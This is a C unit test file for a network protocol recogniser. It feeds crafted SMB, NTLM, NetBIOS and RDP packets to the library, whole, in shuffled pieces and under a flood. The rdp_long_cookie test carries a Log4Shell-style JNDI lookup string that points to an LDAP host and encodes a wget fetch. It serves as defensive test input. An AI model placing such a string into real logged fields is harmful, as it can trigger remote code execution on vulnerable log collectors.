/* SPDX-License-Identifier: GPL-2.0-or-later */
/* summary: recognisers on crafted streams, whole, in pieces, and under flood */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <cmocka.h>

#include "wire/wire.h"

/* ---- a stream builder ---- */
struct bytes {
	size_t len;
	uint8_t b[8192];
};

static void put(struct bytes *s, const void *b, size_t len)
{
	if (len)
		memcpy(s->b + s->len, b, len);
	s->len += len;
}

static void zeros(struct bytes *s, size_t len)
{
	memset(s->b + s->len, 0, len);
	s->len += len;
}

static void le(struct bytes *s, uint64_t n, int width)
{
	while (width-- > 0) {
		s->b[s->len++] = (uint8_t)n;
		n >>= 8;
	}
}

static void utf16(struct bytes *s, const char *text)
{
	for (; *text; text++)
		le(s, (uint8_t)*text, 2);
}

static size_t frame_begin(struct bytes *s)
{
	zeros(s, 4);
	return s->len;
}

static void frame_end(struct bytes *s, size_t at)
{
	size_t len = s->len - at;

	s->b[at - 3] = (uint8_t)(len >> 16);
	s->b[at - 2] = (uint8_t)(len >> 8);
	s->b[at - 1] = (uint8_t)len;
}

/* ---- one connection, 10.0.0.1:40000 -> 10.0.0.2:80 ---- */
static struct wire *w;
static struct sighting last;
static unsigned sightings;
enum { CLIENT, SERVER };
static uint32_t next_seq[2];

static void packet(int dir, uint8_t flags, uint32_t seq, const uint8_t *b, size_t len)
{
	struct bytes p = { .len = 0 };
	struct pkt_in in = { .linktype = 101, .ts_us = 1000000 };
	struct sighting got;
	uint16_t ports[2] = { 40000, 80 };

	put(&p, "\x45\0", 2), le(&p, __builtin_bswap16((uint16_t)(40 + len)), 2);
	put(&p, "\0\0\0\0\x40\x06\0\0", 8);
	le(&p, dir == CLIENT ? 0x0100000a : 0x0200000a, 4);
	le(&p, dir == CLIENT ? 0x0200000a : 0x0100000a, 4);
	le(&p, __builtin_bswap16(ports[dir]), 2), le(&p, __builtin_bswap16(ports[!dir]), 2);
	le(&p, __builtin_bswap32(seq), 4), le(&p, __builtin_bswap32(next_seq[!dir]), 4);
	p.b[p.len++] = 0x50, p.b[p.len++] = flags;
	zeros(&p, 6);
	put(&p, b, len);
	in.caplen = in.len = (uint32_t)p.len;
	in.bytes = p.b;
	if (wire_packet(w, &in, &got)) {
		last = got;
		sightings++;
	}
}

static void connect_tcp(void)
{
	next_seq[CLIENT] = 0xfffffff0u, next_seq[SERVER] = 7000;
	packet(CLIENT, TCP_SYN, next_seq[CLIENT]++, NULL, 0);
	packet(SERVER, TCP_SYN | TCP_ACK, next_seq[SERVER]++, NULL, 0);
	packet(CLIENT, TCP_ACK, next_seq[CLIENT], NULL, 0);
}

static void say(int dir, const struct bytes *s)
{
	packet(dir, TCP_ACK, next_seq[dir], s->b, s->len);
	next_seq[dir] += (uint32_t)s->len;
}

/* The same bytes in pieces of 1..max, neighbours shuffled. */
static void say_in_pieces(int dir, const struct bytes *s, unsigned max)
{
	size_t at[8], len[8], n;

	for (size_t done = 0; done < s->len;) {
		for (n = 0; n < 8 && done < s->len; n++) {
			at[n] = done;
			len[n] = 1 + (size_t)rand() % max;
			if (len[n] > s->len - done)
				len[n] = s->len - done;
			done += len[n];
		}
		for (size_t k = 0; k < 2 * n; k++) { /* with repetitions */
			size_t i = (size_t)rand() % n;

			packet(dir, TCP_ACK, next_seq[dir] + (uint32_t)at[i], s->b + at[i], len[i]);
		}
		for (size_t i = n; i-- > 0;)
			packet(dir, TCP_ACK, next_seq[dir] + (uint32_t)at[i], s->b + at[i], len[i]);
	}
	next_seq[dir] += (uint32_t)s->len;
}

static int setup(void **state)
{
	(void)state;
	w = wire_new(NULL);
	memset(&last, 0, sizeof(last));
	sightings = 0;
	return w ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	wire_free(w);
	return 0;
}

/* ---- SMB ---- */
static void smb1_header(struct bytes *s, uint8_t cmd, uint32_t status, bool reply)
{
	put(s, "\xffSMB", 4), le(s, cmd, 1), le(s, status, 4), le(s, reply ? 0x98 : 0x18, 1);
	le(s, 0xc801, 2);
	zeros(s, 20);
}

static void smb1_negotiate(struct bytes *s)
{
	static const char list[] = "\2LANMAN1.0\0\2NT LM 0.12\0\2SMB 2.002";
	size_t at = frame_begin(s);

	smb1_header(s, 0x72, 0, false);
	le(s, 0, 1), le(s, sizeof(list), 2), put(s, list, sizeof(list));
	frame_end(s, at);
}

static void ntlm_challenge(struct bytes *s, uint32_t flags, uint16_t build)
{
	put(s, "NTLMSSP\0\2\0\0\0", 12), zeros(s, 4), le(s, 56, 4);
	le(s, flags, 4), zeros(s, 16);
	le(s, 4 + 10 + 4, 2), le(s, 18, 2), le(s, 56, 4);
	le(s, 6, 1), le(s, 0, 1), le(s, build, 2), put(s, "\0\0\0\x0f", 4);
	le(s, 1, 2), le(s, 10, 2), utf16(s, "IAS01"), le(s, 0, 4);
}

static void smb1_answers(struct bytes *s)
{
	struct bytes blob = { .len = 0 };
	size_t at = frame_begin(s), bc;

	smb1_header(s, 0x72, 0, true);
	le(s, 17, 1), le(s, 1, 2), le(s, 0x0f, 1), zeros(s, 31), le(s, 0, 2);
	frame_end(s, at);
	put(s, "\x85\0\0\0", 4); /* a keep-alive in between */
	ntlm_challenge(&blob, 0x02000001, 6003);
	at = frame_begin(s);
	smb1_header(s, 0x73, 0xc0000016, true);
	le(s, 4, 1), put(s, "\xff\0\0\0", 4), le(s, 0, 2), le(s, blob.len, 2);
	bc = s->len, le(s, 0, 2);
	put(s, blob.b, blob.len);
	if ((s->len - at) % 2)
		zeros(s, 1);
	utf16(s, "Windows Server (R) 2008 Standard 6003 Service Pack 2"), le(s, 0, 2);
	utf16(s, "Windows Server (R) 2008 Standard 6.0"), le(s, 0, 2);
	s->b[bc] = (uint8_t)(s->len - bc - 2), s->b[bc + 1] = (uint8_t)((s->len - bc - 2) >> 8);
	frame_end(s, at);
}

static void smb1_setup(struct bytes *s)
{
	size_t at = frame_begin(s);

	smb1_header(s, 0x73, 0, false);
	le(s, 12, 1), put(s, "\xff\0\0\0", 4), zeros(s, 20);
	le(s, 0, 2);
	frame_end(s, at);
}

static void assert_text(const void *fact, const char *want)
{
	const struct fact_text *t = fact;

	assert_int_equal(t->len, strlen(want));
	assert_memory_equal(t->b, want, t->len);
}

static void assert_smb1_facts(void)
{
	const struct smb_facts *f = &last.facts.smb;

	assert_int_equal(last.facts.app, APP_SMB);
	assert_int_equal(last.facts.confidence, CONFIDENCE_DIALOG);
	assert_int_equal(last.client_port, 40000);
	assert_true(last.tcp_handshake);
	assert_false(last.midstream);
	assert_int_equal(f->smb1_count, 3);
	assert_int_equal(f->smb1_chosen, 1);
	assert_string_equal(smb1_dialect_name(f->smb1_offered[1]), "NT LM 0.12");
	assert_true(f->flags & SMB_SERVER_SIGNING_REQUIRED);
	assert_text(&f->native_os, "Windows Server (R) 2008 Standard 6003 Service Pack 2");
	assert_text(&f->native_lm, "Windows Server (R) 2008 Standard 6.0");
	assert_true(f->ntlm.has_version);
	assert_int_equal(f->ntlm.major, 6);
	assert_int_equal(f->ntlm.build, 6003);
	assert_int_equal(f->ntlm.nb_computer.len, 5);
}

static void smb1_whole(void **state)
{
	struct bytes c = { .len = 0 }, c2 = { .len = 0 }, s = { .len = 0 };

	(void)state;
	smb1_negotiate(&c), smb1_answers(&s), smb1_setup(&c2);
	connect_tcp();
	say(CLIENT, &c);
	assert_int_equal(last.facts.app, APP_SMB);
	assert_int_equal(last.facts.confidence, CONFIDENCE_HANDSHAKE);
	say(SERVER, &s);
	assert_smb1_facts();
	say(CLIENT, &c2);
	assert_true(last.facts.smb.flags & SMB_1_IN_USE);
}

static void smb1_in_pieces(void **state)
{
	static const unsigned max[] = { 1, 3, 40, 1400 };
	struct bytes c = { .len = 0 }, s = { .len = 0 };
	struct wire_stats st;

	smb1_negotiate(&c), smb1_answers(&s);
	for (size_t i = 0; i < 4; i++) {
		teardown(state), setup(state);
		connect_tcp();
		say_in_pieces(CLIENT, &c, max[i]);
		say_in_pieces(SERVER, &s, max[i]);
		assert_smb1_facts();
		wire_get_stats(w, &st);
		assert_int_equal(st.conflicts + st.gaps + st.lost_sync, 0);
	}
}

static void smb2_header(struct bytes *s, uint16_t cmd, bool response, uint32_t status)
{
	put(s, "\xfeSMB", 4), le(s, 64, 2), le(s, 0, 2), le(s, status, 4), le(s, cmd, 2);
	le(s, 1, 2), le(s, response, 4), zeros(s, 44);
}

static void smb2_negotiate_answer(struct bytes *s)
{
	size_t at = frame_begin(s);

	smb2_header(s, 0, true, 0);
	le(s, 65, 2), le(s, 1, 2), le(s, 0x0202, 2), zeros(s, 34), le(s, 111, 8), le(s, 222, 8);
	zeros(s, 8);
	frame_end(s, at);
}

static void smb2_midstream(void **state)
{
	struct bytes s = { .len = 0 }, junk = { .len = 0 }, big = { .len = 0 };
	size_t at;

	(void)state;
	next_seq[CLIENT] = 1, next_seq[SERVER] = 1;
	put(&junk, "the middle of something", 23);
	say(SERVER, &junk), say(CLIENT, &junk);
	assert_int_equal(sightings, 0);
	smb2_negotiate_answer(&s);
	say(SERVER, &s);
	assert_int_equal(last.facts.app, APP_SMB);
	assert_true(last.midstream);
	assert_int_equal(last.facts.smb.smb2_chosen, 0x0202);
	assert_true(last.facts.smb.server_start == 222);
	assert_int_equal(last.client_port, 40000); /* by who answered */
	/* A long write is skipped by its length, whatever is in it. */
	at = frame_begin(&big);
	smb2_header(&big, 9, false, 0);
	zeros(&big, 5000);
	frame_end(&big, at);
	big.len = 1000;
	say(CLIENT, &big);
	next_seq[CLIENT] += 5068 - 1000; /* and the rest is not even captured */
	big.len = 0;
	at = frame_begin(&big);
	smb2_header(&big, 3, false, 0);
	le(&big, 9, 2), le(&big, 0, 2), le(&big, 72, 2), le(&big, 22, 2);
	utf16(&big, "\\\\h\\ADMIN$");
	zeros(&big, 2);
	frame_end(&big, at);
	say(CLIENT, &big);
	assert_string_equal(smb_interest_name(1), "ADMIN$");
	assert_int_equal(last.facts.smb.interest, 1u << 1);
	assert_int_equal(last.facts.confidence, CONFIDENCE_DIALOG);
}

static void smb3_transforms(void **state)
{
	struct bytes e = { .len = 0 }, z = { .len = 0 };
	size_t at = frame_begin(&e);

	(void)state;
	put(&e, "\xfdSMB", 4), zeros(&e, 32), le(&e, 100, 4), le(&e, 0, 2), le(&e, 1, 2);
	zeros(&e, 108), frame_end(&e, at);
	at = frame_begin(&z);
	put(&z, "\xfcSMB", 4), le(&z, 100, 4), le(&z, 1, 2), zeros(&z, 40), frame_end(&z, at);
	connect_tcp();
	say(CLIENT, &e);
	assert_true(last.facts.smb.flags & SMB_SEEN_ENCRYPTED);
	say(SERVER, &z);
	assert_true(last.facts.smb.flags & SMB_SEEN_COMPRESSED);
	assert_int_equal(last.facts.confidence, CONFIDENCE_DIALOG);
}

/* Failed logons are counted and reported one by one. */
static void smb_logon_failures(void **state)
{
	struct bytes c = { .len = 0 }, s = { .len = 0 };
	size_t at;

	(void)state;
	smb1_negotiate(&c);
	at = frame_begin(&s);
	smb2_header(&s, 1, true, 0xc000006d);
	le(&s, 9, 2), zeros(&s, 7);
	frame_end(&s, at);
	connect_tcp();
	say(CLIENT, &c);
	say(SERVER, &s), say(SERVER, &s);
	assert_int_equal(last.facts.smb.logon_failures, 2);
	assert_true(last.facts.smb.logon_failure == 0xc000006d);
	assert_true(last.news & NEWS_LOGON_FAILURE);
}

/* The version is believed only if the flag is set and no field lies on it. */
static void ntlm_version_guard(void **state)
{
	struct bytes c = { .len = 0 }, s = { .len = 0 }, blob = { .len = 0 };
	size_t at = frame_begin(&s);

	(void)state;
	smb1_negotiate(&c);
	ntlm_challenge(&blob, 0x00000001, 6002);
	smb2_header(&s, 1, true, 0xc0000016);
	le(&s, 9, 2), le(&s, 0, 2), le(&s, 72, 2), le(&s, blob.len, 2), put(&s, blob.b, blob.len);
	frame_end(&s, at);
	connect_tcp();
	say(CLIENT, &c), say(SERVER, &s);
	assert_true(last.facts.smb.ntlm.has_challenge);
	assert_false(last.facts.smb.ntlm.has_version);
}

static void nbss_names(void **state)
{
	struct bytes c = { .len = 0 }, ok = { .len = 0 };
	const char *names[2] = { "IAS01           ", "PANELPC02       " };

	(void)state;
	put(&c, "\x81\0\0\x44", 4);
	for (int n = 0; n < 2; n++) {
		le(&c, 0x20, 1);
		for (int i = 0; i < 16; i++)
			le(&c, 'A' + (names[n][i] >> 4), 1), le(&c, 'A' + (names[n][i] & 15), 1);
		le(&c, 0, 1);
	}
	put(&ok, "\x82\0\0\0", 4);
	connect_tcp();
	say_in_pieces(CLIENT, &c, 5);
	say(SERVER, &ok);
	assert_int_equal(sightings, 0); /* a NetBIOS session is not SMB yet */
	c.len = 0;
	smb1_negotiate(&c);
	say_in_pieces(CLIENT, &c, 5);
	assert_int_equal(last.facts.app, APP_SMB);
	assert_text(&last.facts.smb.called, "IAS01");
	assert_text(&last.facts.smb.calling, "PANELPC02");
}

/* ---- RDP ---- */
#define CASE(yes, text) { yes, sizeof(text) - 1, text }
static const struct {
	bool rdp;
	size_t len;
	const char *bytes;
} openings[] = {
	/* with cookie, cookie and negotiation, negotiation alone, nothing, CR LF */
	CASE(true, "\3\0\0\x22\x1d\xe0\0\0\0\0\0Cookie: mstshash=Admi\r\n"),
	CASE(true, "\3\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=Admi\r\n\1\0\x8\0\3\0\0\0"),
	CASE(true, "\3\0\0\x13\x0e\xe0\0\0\0\0\0\1\0\x8\0\3\0\0\0"),
	CASE(true, "\3\0\0\x0b\x06\xe0\0\0\0\0\0"),
	CASE(true, "\3\0\0\x0d\x08\xe0\0\0\0\0\0\r\n"),
	CASE(true, "\3\0\0\x2d\x28\xe0\0\0\0\0\0Cookie: msts=3640205228.15629.0000\r\n"
		   /* the length is wrong by design: see below */),
	/* S7: TSAP parameters C0 C1 C2; MMS: the same in another order */
	CASE(false, "\3\0\0\x16\x11\xe0\0\0\0\1\0\xc0\1\x0a\xc1\2\1\0\xc2\2\1\2"),
	CASE(false, "\3\0\0\x16\x11\xe0\0\0\0\1\0\xc1\2\1\0\xc2\2\1\2\xc0\1\x0a"),
	/* TSAP names that hold CR LF or look like a negotiation at the end */
	CASE(false, "\3\0\0\x12\x0d\xe0\0\0\0\1\0\xc1\2\r\n\xc0\1\x0a"),
	CASE(false, "\3\0\0\x15\x10\xe0\0\0\0\1\0\xc1\x8\1\0\x8\0\3\0\0\0"),
	/* H.323: Q.931 in TPKT; X.224 data; wrong LI; class 4; dst ref set */
	CASE(false, "\3\0\0\x0c\x08\2\x12\x34\5\4\3\x88"),
	CASE(false, "\3\0\0\x0c\2\xf0\x80\x7f\x65\0\0\0"),
	CASE(false, "\3\0\0\x0b\x07\xe0\0\0\0\0\0"),
	CASE(false, "\3\0\0\x0b\x06\xe0\0\0\0\0\x40"),
	CASE(false, "\3\0\0\x0b\x06\xe0\0\1\0\0\0"),
	/* a negotiation of another type or length */
	CASE(false, "\3\0\0\x13\x0e\xe0\0\0\0\0\0\2\0\x8\0\3\0\0\0"),
	CASE(false, "\3\0\0\x13\x0e\xe0\0\0\0\0\0\1\0\x9\0\3\0\0\0"),
	/* TLS, HTTP, a bare TPKT number */
	CASE(false, "\x16\3\1\0\x30\1\0\0\x2c\3\1"),
	CASE(false, "GET / HTTP/1.1\r\n\r\n"),
	CASE(false, "\3\0"),
};

static void rdp_openings(void **state)
{
	struct bytes c;
	size_t len;

	for (size_t i = 0; i < sizeof(openings) / sizeof(openings[0]); i++)
		for (unsigned max = 1; max <= 64; max += 63) {
			c.len = 0;
			put(&c, openings[i].bytes, openings[i].len);
			/* Make the length of the long ones what it is. */
			len = c.len;
			if (openings[i].rdp && len > 13 && c.b[3] != len)
				c.b[3] = (uint8_t)len, c.b[4] = (uint8_t)(len - 5);
			teardown(state), setup(state);
			connect_tcp();
			say_in_pieces(CLIENT, &c, max);
			if ((last.facts.app == APP_RDP) != openings[i].rdp)
				fail_msg("opening %zu, pieces of %u", i, max);
		}
}

/* Names that log collectors are to trip over are longer than any user's. */
static void rdp_long_cookie(void **state)
{
	static const char name[] = "${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/"
				   "d2dldCBodHRwOi8v}";
	struct bytes c = { .len = 0 };

	(void)state;
	connect_tcp();
	put(&c, "\3\0\0\0\0\xe0\0\0\0\0\0Cookie: mstshash=", 28);
	put(&c, name, sizeof(name) - 1), put(&c, "\r\n", 2);
	c.b[3] = (uint8_t)c.len, c.b[4] = (uint8_t)(c.len - 5);
	say(CLIENT, &c);
	assert_int_equal(last.facts.app, APP_RDP);
	assert_int_equal(last.facts.rdp.cookie.len, sizeof(name) - 1);
	assert_memory_equal(last.facts.rdp.cookie.b, name, sizeof(name) - 1);
}

static void rdp_standard_security(void **state)
{
	struct bytes c = { .len = 0 }, s = { .len = 0 };
	static const char ms_t120[] = "MS_t120\0";

	(void)state;
	connect_tcp();
	put(&c, "\3\0\0\x13\x0e\xe0\0\0\0\0\0\1\0\x8\0\0\0\0\0", 19);
	say(CLIENT, &c);
	put(&s, "\3\0\0\x13\x0e\xd0\0\0\0\0\0\2\0\x8\0\0\0\0\0", 19);
	say(SERVER, &s);
	assert_true(last.facts.rdp.flags & RDP_HAS_NEG_RSP);
	c.len = s.len = 0;
	put(&c, "\3\0\0\0\2\xf0\x80\x7f\x65", 9), zeros(&c, 30), put(&c, "Duca\x30", 5);
	le(&c, 0xc001, 2), le(&c, 4 + 52, 2), zeros(&c, 16), le(&c, 2600, 4), utf16(&c, "PC1");
	zeros(&c, 26);
	le(&c, 0xc003, 2), le(&c, 8 + 24, 2), le(&c, 2, 4);
	put(&c, "cliprdr\0", 8), le(&c, 0, 4), put(&c, ms_t120, 8), le(&c, 0, 4);
	c.b[3] = (uint8_t)c.len;
	say_in_pieces(CLIENT, &c, 9);
	assert_int_equal(last.facts.rdp.client_build, 2600);
	assert_int_equal(last.facts.rdp.channel_count, 2);
	assert_true(last.facts.rdp.flags & RDP_MS_T120);
	put(&s, "\3\0\0\0\2\xf0\x80\x7f\x66", 9), put(&s, "McDn\x20", 5);
	le(&s, 0x0c02, 2), le(&s, 12, 2), le(&s, 2, 4), le(&s, 2, 4);
	s.b[3] = (uint8_t)s.len;
	say(SERVER, &s);
	assert_int_equal(last.facts.rdp.encryption_level, 2);
	assert_int_equal(last.facts.confidence, CONFIDENCE_DIALOG);
}

/* A flood on small tables: counted, bounded, and recognition goes on after it. */
static void flood(void **state)
{
	const struct wire_conf small = { .flows = 64, .streams = 4, .facts = 4, .frags = 1 };
	struct bytes c = { .len = 0 };
	struct wire_stats st;
	uint8_t p[48] = { 0x45, 0, 0, 48, 0, 0, 0, 0, 64, 6, 0, 0, 1, 1, 1, 1, 2, 2, 2, 2 };
	struct pkt_in in = { .linktype = 101, .caplen = 48, .len = 48, .bytes = p };
	struct sighting got;

	wire_free(w);
	w = wire_new(&small);
	p[32] = 0x50, p[33] = TCP_ACK;
	memcpy(p + 40, "\0\0\0\x80\xff", 5); /* a frame that may become SMB */
	in.caplen = in.len = 45, p[3] = 45;
	for (int i = 0; i < 20000; i++) {
		p[12] = (uint8_t)rand(), p[13] = (uint8_t)rand(), p[21] = (uint8_t)rand();
		wire_packet(w, &in, &got);
	}
	wire_get_stats(w, &st);
	assert_true(st.flows_evicted > 10000);
	assert_true(st.streams_evicted > 0);
	smb1_negotiate(&c);
	connect_tcp();
	say(CLIENT, &c);
	assert_int_equal(last.facts.app, APP_SMB);
	(void)state;
}

#define TEST(f) cmocka_unit_test_setup_teardown(f, setup, teardown)

int main(void)
{
	const char *given = getenv("SEED");
	unsigned seed = given ? (unsigned)strtoul(given, NULL, 0) : (unsigned)time(NULL);
	const struct CMUnitTest tests[] = {
		TEST(smb1_whole),
		TEST(smb1_in_pieces),
		TEST(smb2_midstream),
		TEST(smb3_transforms),
		TEST(smb_logon_failures),
		TEST(ntlm_version_guard),
		TEST(nbss_names),
		TEST(rdp_openings),
		TEST(rdp_long_cookie),
		TEST(rdp_standard_security),
		TEST(flood),
	};

	print_message("SEED=%u\n", seed);
	srand(seed);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
